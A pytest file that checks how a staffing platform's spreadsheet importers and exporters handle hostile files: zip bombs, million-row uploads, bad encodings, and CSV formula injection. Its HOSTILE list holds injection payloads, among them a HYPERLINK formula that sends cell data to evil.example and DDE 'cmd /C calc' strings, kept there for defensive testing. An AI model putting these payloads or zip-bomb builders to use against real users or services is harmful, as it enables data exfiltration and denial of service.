"""Hostile files against every importer and exporter (issue #12, item 4).

Importers: the pegawai registry (.xlsx and .csv), formasi needs (.xlsx) and formasi units
(.xlsx). Each hostile kind is tried on each importer it applies to: an oversized file, a
zip bomb, a million-row file (refused with a clear limit and without building the rows:
peak Python memory measured with tracemalloc), text that is no spreadsheet, wrong
encodings, BOMs, mixed line endings, NUL bytes and over-long fields (CSV). Every refusal is
bilingual and never a crash (a 500 on the API).

Exporters: every text cell that starts with `=`, `+`, `-`, `@`, tab or CR is neutralised
(OWASP CSV injection) in the pegawai export (.xlsx, .csv), the formasi needs template, the
gap report, the web console's round report and the ledger CSV export; numbers stay numbers
and our own exports import back to the original value. The limits and the neutralisation
live in one place: `tatamutasi_platform.spreadsheets`."""

import csv
import io
import random
import re
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from fastapi.testclient import TestClient

from tatamutasi_audit.ledger import export as ledger_export
from tatamutasi_formasi.app import create_app as formasi_app
from tatamutasi_formasi.service import needs_excel, units_excel
from tatamutasi_formasi.settings import FormasiSettings
from tatamutasi_pegawai.adapters import tabular
from tatamutasi_pegawai.app import create_app as pegawai_app
from tatamutasi_pegawai.settings import PegawaiSettings
from tatamutasi_platform import spreadsheets
from tatamutasi_platform.spreadsheets import FORMULA_TRIGGERS, MiB, UploadLimits
from tatamutasi_platform.testing import service_settings
from tatamutasi_web.workflow import report_xlsx

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
PEGAWAI_HEAD = "NIP,Nama,ID Unit Kerja,ID Jabatan\n"
PEGAWAI_ROW = "198503122010011002,Budi Santoso,U-A,J-1\n"


# -- building hostile files ----------------------------------------------------------------
def workbook(sheets: dict[str, list[list[Any]]]) -> bytes:
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True, "strings_to_formulas": False})
    for name, rows in sheets.items():
        ws = wb.add_worksheet(name)
        for r, row in enumerate(rows):
            for c, v in enumerate(row):
                if isinstance(v, str):
                    ws.write_string(r, c, v)
                else:
                    ws.write(r, c, v)
    wb.close()
    return buf.getvalue()


NEEDS_HEAD = ["unit_id", "jabatan_id", "valid_from", "kebutuhan"]
UNITS_HEAD = ["unit_id", "name", "unit_type", "parent_id", "eselon_id", "valid_from"]
SHEETS = {
    "pegawai-xlsx": ("Pegawai", PEGAWAI_HEAD.strip().split(",")),
    "formasi-needs": (needs_excel.SHEET, NEEDS_HEAD),
    "formasi-units": (units_excel.SHEET, UNITS_HEAD),
}
MEMBERS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"/>'
    )
}


def raw_xlsx(members: dict[str, Iterator[bytes] | bytes]) -> bytes:
    """A zip with the given members, streamed (level 9), as an attacker would build it."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, text in MEMBERS.items():
            z.writestr(name, text)
        for name, body in members.items():
            with z.open(name, "w", force_zip64=True) as f:
                for chunk in [body] if isinstance(body, bytes) else body:
                    f.write(chunk)
    return buf.getvalue()


def bomb() -> bytes:
    """64 MiB of spaces in a worksheet: about 64 KiB on the wire, 1000:1."""
    return raw_xlsx({"xl/worksheets/sheet1.xml": (b" " * MiB for _ in range(64))})


def million_rows(prefix: bytes = b"") -> bytes:
    """A worksheet of 1,000,001 rows (`<x:row` with a namespace prefix when asked)."""

    def body() -> Iterator[bytes]:
        yield b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        yield b"<sheetData>"
        for start in range(1, 1_000_002, 10_000):
            yield b"".join(
                b'<%srow r="%d"><%sc r="A%d" t="inlineStr"><%sis><%st>x</%st></%sis></%sc></%srow>'
                % (prefix, n, prefix, n, prefix, prefix, prefix, prefix, prefix, prefix)
                for n in range(start, min(start + 10_000, 1_000_002))
            )
        yield b"</sheetData></worksheet>"

    return raw_xlsx({"xl/worksheets/sheet1.xml": body()})


def million_csv() -> bytes:
    return (PEGAWAI_HEAD + PEGAWAI_ROW * 1_000_000).encode()


# -- the importers, each refusing the same way --------------------------------------------
Importer = Callable[[bytes, UploadLimits], Any]


def _pegawai(name: str) -> Importer:
    return lambda data, limits: tabular.read_table(data, name, limits)


def _formasi(module: Any) -> Importer:
    return lambda data, limits: module.read_rows(data, limits.max_rows, limits)


IMPORTERS: dict[str, Importer] = {
    "pegawai-xlsx": _pegawai("pegawai.xlsx"),
    "pegawai-csv": _pegawai("pegawai.csv"),
    "formasi-needs": _formasi(needs_excel),
    "formasi-units": _formasi(units_excel),
}
XLSX_IMPORTERS = ["pegawai-xlsx", "formasi-needs", "formasi-units"]


def refusal(importer: str, data: bytes, limits: UploadLimits | None = None) -> tuple[int, str]:
    """(status, English and Indonesian reasons) of a refused file."""
    limits = limits or UploadLimits(max_rows=20_000)
    try:
        IMPORTERS[importer](data, limits)
    except tabular.TableError as exc:
        assert exc.en and exc.id and exc.en != exc.id
        return exc.status, f"{exc.en} | {exc.id}"
    except needs_excel.SheetError as exc:
        assert exc.en and exc.id_ and exc.en != exc.id_
        return exc.status, f"{exc.en} | {exc.id_}"
    raise AssertionError(f"{importer} accepted a hostile file")


def valid_file(importer: str) -> bytes:
    if importer == "pegawai-csv":
        return (PEGAWAI_HEAD + PEGAWAI_ROW).encode()
    sheet, head = SHEETS[importer]
    return workbook({sheet: [head, ["x"] * len(head)]})


@pytest.mark.parametrize("importer", list(IMPORTERS))
def test_oversized_file_is_refused_with_413(importer: str) -> None:
    data = valid_file(importer)
    status, reason = refusal(importer, data, UploadLimits(max_bytes=len(data) - 1))
    assert status == 413 and "limit" in reason and "batasnya" in reason


@pytest.mark.parametrize("importer", XLSX_IMPORTERS)
def test_zip_bomb_is_refused_before_any_parser_sees_it(importer: str) -> None:
    data = bomb()
    assert len(data) < 1 * MiB
    tracemalloc.start()
    try:
        status, reason = refusal(importer, data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert status == 413
    assert "compresses" in reason and "terkompresi" in reason
    assert peak < 8 * MiB  # the directory is read, nothing is unpacked
    # and a plain zip declaring more than the total limit
    noise = random.Random(12).randbytes(2 * MiB)  # incompressible: only the total limit applies
    total = raw_xlsx({"xl/worksheets/sheet1.xml": b"<worksheet>" + noise})
    small = UploadLimits(max_rows=10, max_uncompressed_bytes=1 * MiB)
    status, reason = refusal(importer, total, small)
    assert status == 413 and "unpacks too large" in reason and "terlalu besar" in reason


@pytest.mark.parametrize("importer", list(IMPORTERS))
def test_million_row_file_is_refused_without_building_rows(importer: str) -> None:
    data = million_csv() if importer == "pegawai-csv" else million_rows()
    tracemalloc.start()
    try:
        status, reason = refusal(importer, data, UploadLimits(max_rows=200_000))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert status == 413 and "More than 200000 rows" in reason and "pecah berkasnya" in reason
    # the file itself (35 MB of CSV, 8 MB of xlsx) was allocated before; the check keeps
    # a chunk, not rows (building 1M rows of cells takes hundreds of MB)
    assert peak < 32 * MiB, f"peak {peak / MiB:.1f} MiB"


def test_row_count_sees_rows_behind_a_namespace_prefix() -> None:
    status, reason = refusal("pegawai-xlsx", million_rows(b"x:"), UploadLimits(max_rows=1000))
    assert status == 413 and "More than 1000 rows" in reason


@pytest.mark.parametrize("importer", XLSX_IMPORTERS)
@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"NIP,Nama\n1,2\n",
        b"PK\x03\x04garbage",
        b"\xd0\xcf\x11\xe0" + b"\0" * 600,
        bytes(range(256)),
    ],
    ids=["empty", "csv-text", "broken-zip", "ole-header", "binary"],
)
def test_text_or_garbage_sent_as_a_workbook_is_a_clear_422(importer: str, data: bytes) -> None:
    status, reason = refusal(importer, data)
    assert status == 422 and ("cannot be read" in reason or "not a readable" in reason.lower())


def test_pegawai_csv_in_windows_1252_and_utf_16_is_read_with_its_accents() -> None:
    text = PEGAWAI_HEAD + "198503122010011002,Sàrah Ñoviyanti,U-A,J-1\n"
    for encoding in ("cp1252", "latin-1", "utf-16", "utf-8-sig"):
        sheet = tabular.read_table(text.encode(encoding), "p.csv")
        assert [c.header if c else None for c in sheet.columns] == PEGAWAI_HEAD.strip().split(
            ","
        ), encoding
        assert sheet.rows[0][1][1] == "Sàrah Ñoviyanti", encoding


@pytest.mark.parametrize(
    "data",
    [
        (PEGAWAI_HEAD + "198503122010011002,Siti,U-A,J-1\n").encode("utf-16-le"),  # no BOM
        (PEGAWAI_HEAD + "198503122010011002,Bu\x81\x8d\x8f,U-A,J-1\n").encode("latin-1"),
        (PEGAWAI_HEAD + "198503122010011002,Bu\x00di,U-A,J-1\n").encode(),
    ],
    ids=["utf16-without-bom", "undefined-in-cp1252", "nul-byte"],
)
def test_pegawai_csv_in_an_unknown_encoding_is_a_clear_per_file_422(data: bytes) -> None:
    status, reason = refusal("pegawai-csv", data)
    assert status == 422
    assert "UTF-8" in reason and "simpan ulang" in reason


def test_pegawai_csv_with_a_bom_and_mixed_line_endings_reads_every_row() -> None:
    rows = [
        "198503122010011002,Budi,U-A,J-1",
        '199001012015032001,"Siti\r\nAminah",U-B,J-2',  # a quoted line break stays a value
        "197001012000011003,Hendra,U-A,J-1",
        "198001012005011004,Dewi,U-C,J-3",
    ]
    text = "\ufeff" + PEGAWAI_HEAD.strip() + "\r\n" + rows[0] + "\n" + rows[1] + "\r"
    text += rows[2] + "\r\n" + rows[3]
    sheet = tabular.read_table(text.encode(), "p.csv")
    assert sheet.columns[0] is not None and sheet.columns[0].header == "NIP"
    assert [r[1][0] for r in sheet.rows] == [r.split(",")[0] for r in rows]
    assert sheet.rows[1][1][1] == "Siti\r\nAminah"


def test_pegawai_csv_with_an_endless_field_is_a_clear_422() -> None:
    data = (PEGAWAI_HEAD + "198503122010011002," + "A" * 200_000 + ",U-A,J-1\n").encode()
    status, reason = refusal("pegawai-csv", data)
    assert status == 422 and "field limit" in reason and "tidak dapat dibaca" in reason


# -- exports: nothing a spreadsheet would evaluate ----------------------------------------
def assert_inert_xlsx(data: bytes, allowed: Callable[[str], bool] = lambda f: False) -> int:
    """Every text cell of every sheet is inert; formulas only where `allowed`. Returns the
    number of text cells seen."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert allowed(str(cell.value)), f"{ws.title}!{cell.coordinate}: {cell.value}"
                elif isinstance(cell.value, str):
                    seen += 1
                    assert not cell.value.startswith(FORMULA_TRIGGERS), (
                        f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                    )
    wb.close()
    return seen


NUMBER = re.compile(r"-?\d+(?:\.\d+)?")


def assert_inert_csv(text: str) -> list[list[str]]:
    """Every field is inert: a number, or text that does not start a formula."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for value in row:
            assert NUMBER.fullmatch(value) or not value.startswith(FORMULA_TRIGGERS), value
    return rows


def test_pegawai_export_neutralises_and_reads_back_to_the_original() -> None:
    views = [
        {"nip": "198503122010011002", "name": name, "unor_id": "U-A", "jabatan_id": "J-1"}
        for name in HOSTILE
    ] + [{"nip": "199001012015032001", "name": "-", "education_year": -5}]
    headers, rows = tabular.export_rows(views, personal=False)
    as_csv = tabular.to_csv(headers, rows)
    table = assert_inert_csv(as_csv.decode())
    assert table[-1][headers.index("Tahun Lulus")] == "-5"  # numbers stay numbers
    as_xlsx = tabular.to_xlsx(headers, rows)
    assert assert_inert_xlsx(as_xlsx) >= len(HOSTILE)
    for data, name in ((as_csv, "e.csv"), (as_xlsx, "e.xlsx")):
        back = tabular.read_table(data, name)
        names = [cells[1] for _, cells in back.rows]
        assert names == [*(h.strip() for h in HOSTILE), "-"], name


def test_formasi_reads_its_neutralised_cells_back_and_the_template_is_inert() -> None:
    hostile_units = [(f"U-{i}", name) for i, name in enumerate(HOSTILE)]
    template = needs_excel.template(hostile_units, [("J-1", "=1+1")])
    assert assert_inert_xlsx(template) >= len(HOSTILE)
    data = workbook(
        {
            units_excel.SHEET: [
                UNITS_HEAD,
                *[
                    [uid, spreadsheets.neutralise(name), "dinas", "", "", "2024-01-01"]
                    for uid, name in hostile_units
                ],
            ]
        }
    )
    rows = units_excel.read_rows(data, 100)
    assert [r["name"] for _, r in rows] == HOSTILE


def test_gap_report_cells_from_users_are_inert_and_only_our_sums_are_formulas() -> None:
    from tatamutasi_formasi.service import gaps_excel

    assert_inert_xlsx(_gap_workbook(gaps_excel, HOSTILE), allowed=lambda f: f.startswith("=SUM("))


def _gap_workbook(gaps_excel: Any, names: list[str]) -> bytes:
    """The gap workbook's own writer over user-named rows (one per hostile name)."""
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {**spreadsheets.XLSX_OPTIONS})
    f = gaps_excel._Fmt(wb)
    ws = gaps_excel._sheet(wb, f, "Per OPD", "uji", date(2025, 1, 1), gaps_excel.GROUP_HEADERS)
    for r, name in enumerate(names, start=4):
        gaps_excel._write(ws, f, r, [name, name, 3, 2, 0, 1, 0, 1], 2, frozenset({5}))
    ws.write_formula(4 + len(names), 2, f"=SUM(C5:C{4 + len(names)})", f.total, 3)
    wb.close()
    return buf.getvalue()


def test_web_round_report_neutralises_objections_and_names() -> None:
    report = {
        "moved": [
            {"nip": "198503122010011002", "name": n, "from": n, "to": "U-B/J-1", "tmt": None}
            for n in HOSTILE
        ],
        "gaps": [
            {"opd": n, "vacant_before": 2, "vacant_now": 1, "change": -1, "filled_change": 1}
            for n in HOSTILE
        ],
        "objections": [
            {"nip": "198503122010011002", "reason": n, "status": "open", "answer": n}
            for n in HOSTILE
        ],
        "gap_change": {},
    }
    data = report_xlsx(report, "id")
    assert assert_inert_xlsx(data) >= 3 * len(HOSTILE)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    numbers = [c.value for c in wb.worksheets[1]["D"][1:]]
    assert numbers == [-1] * len(HOSTILE)  # numbers stay numbers
    wb.close()


def test_ledger_csv_export_is_inert_and_reads_back_exactly(tmp_path: Path) -> None:
    rows = [
        ledger_export.ExportRow(
            index=i,
            event_id=f"e-{i}",
            source="/tatamutasi/pegawai",
            sequence=i,
            type="pegawai.registered",
            subject=name,
            time="2025-01-01T00:00:00Z",
            actor=name,
            entry=b'{"a":1}',
        )
        for i, name in enumerate(HOSTILE)
    ]
    path = tmp_path / "entries.csv"
    path.write_bytes(ledger_export.render_entries(rows, "csv"))
    assert_inert_csv(path.read_bytes().decode())
    back = list(ledger_export._read_lines(path, "csv"))
    assert [r["actor"] for r in back] == HOSTILE
    assert [r["subject"] for r in back] == HOSTILE


# -- through the APIs: problem+json, never a 500 --------------------------------------------
@pytest.fixture
def pegawai(db_url: str, dev_keys: tuple[bytes, Path]) -> Iterator[TestClient]:
    settings = service_settings(
        PegawaiSettings,
        db_url=db_url,
        public_key=dev_keys[1],
        reference_path=None,
        consumer_enabled=False,
        relay_enabled=False,
    )
    with TestClient(pegawai_app(settings)) as c:  # type: ignore[arg-type]
        yield c


@pytest.fixture
def formasi(db_url: str, dev_keys: tuple[bytes, Path]) -> Iterator[TestClient]:
    settings = service_settings(
        FormasiSettings,
        db_url=db_url,
        public_key=dev_keys[1],
        consumer_enabled=False,
        relay_enabled=False,
        import_max_rows=1000,
    )
    with TestClient(formasi_app(settings)) as c:  # type: ignore[arg-type]
        yield c


def _problem(r: Any, status: int) -> dict[str, Any]:
    assert r.status_code == status, r.text
    assert r.headers["content-type"] == "application/problem+json"
    body: dict[str, Any] = r.json()
    assert body["detail_en"] and body["detail_id"] and body["detail_en"] != body["detail_id"]
    return body


def test_pegawai_api_answers_hostile_uploads_with_problems(
    pegawai: TestClient, auth_headers: Callable[..., dict[str, str]]
) -> None:
    h = auth_headers("admin")

    def up(data: bytes, name: str) -> Any:
        return pegawai.post(
            "/import/pegawai", files={"file": (name, data, "application/octet-stream")}, headers=h
        )

    assert "zip" in _problem(up(bomb(), "bom.xlsx"), 413)["type"]
    assert "rows" in _problem(up(million_rows(), "besar.xlsx"), 413)["type"]
    assert "UTF-8" in _problem(up(b"NIP,Nama\n\x00\x00", "x.csv"), 422)["detail_en"]
    ok = up((PEGAWAI_HEAD + "198503122010011002,Sàrah,U-A,J-1\n").encode("cp1252"), "win.csv")
    assert ok.status_code in (200, 422), ok.text  # read; rows judged on their merits
    assert not any(e["column"] == "Nama" for e in ok.json().get("errors", []))


def test_formasi_api_answers_hostile_uploads_with_problems(
    formasi: TestClient, auth_headers: Callable[..., dict[str, str]]
) -> None:
    h = auth_headers("admin")
    for path in ("/needs/import", "/units/import"):
        r = formasi.post(path, files={"file": ("b.xlsx", bomb(), XLSX)}, headers=h)
        assert _problem(r, 413)["status"] == 413
        r = formasi.post(path, files={"file": ("m.xlsx", million_rows(), XLSX)}, headers=h)
        assert "rows" in _problem(r, 413)["detail_en"]  # needs: 1000 (settings), units: 20000
        r = formasi.post(path, files={"file": ("t.xlsx", b"a,b\n1,2\n", XLSX)}, headers=h)
        _problem(r, 422)
